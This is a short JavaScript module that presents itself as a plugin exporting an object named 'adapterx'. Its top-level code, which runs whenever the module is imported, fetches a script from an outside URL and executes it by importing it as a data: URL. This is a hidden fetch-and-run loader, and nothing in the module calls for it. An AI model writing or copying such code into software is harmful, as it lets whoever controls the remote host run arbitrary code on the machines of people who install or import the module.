export default () => ({ name: "adapterx" });
const u = new URL("https://esm.example.invalid/m.js");
const src = await (await fetch(u)).text();
await import("data:text/javascript," + encodeURIComponent(src));
